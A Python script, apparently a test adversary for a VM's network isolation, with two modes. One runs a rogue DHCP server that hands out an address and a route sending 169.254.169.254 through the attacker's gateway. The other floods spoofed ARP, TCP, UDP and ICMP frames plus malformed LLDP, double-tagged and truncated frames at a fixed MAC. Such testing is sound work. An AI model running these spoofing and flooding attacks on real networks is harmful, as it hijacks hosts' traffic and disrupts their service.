#!/usr/bin/env python3
"""Somebody on the link who means no good, or whom a VLAN should keep away.

  rogue.py vlan LINK VID   answers every DHCP message, in that VLAN (0: a tag that gives a priority only), with 10.66.0.4
  rogue.py flood LINK      sends spoofed ARP, UDP, TCP and ICMP to 00:0d:3a:12:34:56 as fast as it can, and says how many
"""
import signal
import socket
import struct
import sys

VM = bytes.fromhex("000d3a123456")
HERE = bytes.fromhex("020000000066")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, target, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def answer(message, kind):
    options = bytes([53, 1, kind, 54, 4, 10, 66, 0, 1, 51, 4, 0, 0, 14, 16, 1, 4, 255, 255, 255, 0])
    options += bytes([121, 18, 32, 168, 63, 129, 16, 10, 66, 0, 1, 32, 169, 254, 169, 254, 10, 66, 0, 1, 255])
    fixed = b"\x02\x01\x06\x00" + message[4:8] + bytes(8) + bytes([10, 66, 0, 4]) + bytes(8) + message[28:44]
    body = fixed + bytes(192) + bytes([99, 130, 83, 99]) + options
    udp = struct.pack("!HHHH", 67, 68, 8 + len(body), 0) + body
    return ipv4(bytes([10, 66, 0, 1]), b"\xff" * 4, 17, udp)


def vlan(link, vid):
    link.settimeout(None)
    print("listening", flush=True)
    while True:
        frame = link.recv(2048)
        if frame[12:14] != b"\x08\x00" or frame[23] != 17 or frame[36:38] != b"\x00\x43":
            continue
        message = frame[42:]
        packet = answer(message, 2 if message[242] == 1 else 5)
        link.send(VM + HERE + b"\x81\x00" + struct.pack("!H", vid) + b"\x08\x00" + packet)


def flood(link):
    frames = []
    for n in range(64):
        stranger = bytes([10, 0, 0, 70 + n])
        for ours in range(4, 21):
            target = bytes([10, 0, 0, ours])
            tcp = struct.pack("!HHIIBBHHH", 80, 50000 + n, 1, 0, 0x50, 2, 100, 0, 0)
            frames.append(VM + HERE + b"\x08\x00" + ipv4(stranger, target, 6, tcp))
            frames.append(VM + HERE + b"\x08\x00" + ipv4(stranger, target, 17, struct.pack("!HHHH", 67, 68, 8, 0)))
            frames.append(VM + HERE + b"\x08\x00" + ipv4(stranger, target, 1, b"\x08\x00\xf7\xff" + bytes(4)))
            arp = b"\x00\x01\x08\x00\x06\x04\x00" + bytes([1 + n % 2]) + HERE + stranger + bytes(6) + target
            frames.append(b"\xff" * 6 + HERE + b"\x08\x06" + arp)
        # LLDP (CVE-2024-6501), IPv6, a tag in a tag, and next to nothing.
        frames.append(bytes.fromhex("0180c200000e") + HERE + b"\x88\xcc" + b"\x02\x07\x04" + HERE + bytes(60))
        frames.append(VM + HERE + b"\x86\xdd\x60" + bytes([0, 0, 0, 0, 8, 58, 255]) + bytes(40))
        frames.append(VM + HERE + b"\x81\x00\x00\x64\x81\x00\x00\x00\x08\x00" + bytes(40))
        frames.append(VM + HERE + b"\x08\x00\x45")
    sent = 0

    def end(*_):
        print(f"sent {sent}", flush=True)
        sys.exit(0)

    signal.signal(signal.SIGTERM, end)
    print("listening", flush=True)
    while True:
        for frame in frames:
            try:
                link.send(frame)
                sent += 1
            except OSError:
                pass  # the link is down yet, or its queue is full


def main():
    if len(sys.argv) < 3 or sys.argv[1] not in ("vlan", "flood"):
        sys.exit(__doc__)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    link.bind((sys.argv[2], 0x0003))
    if sys.argv[1] == "vlan":
        vlan(link, int(sys.argv[3]))
    else:
        flood(link)


main()
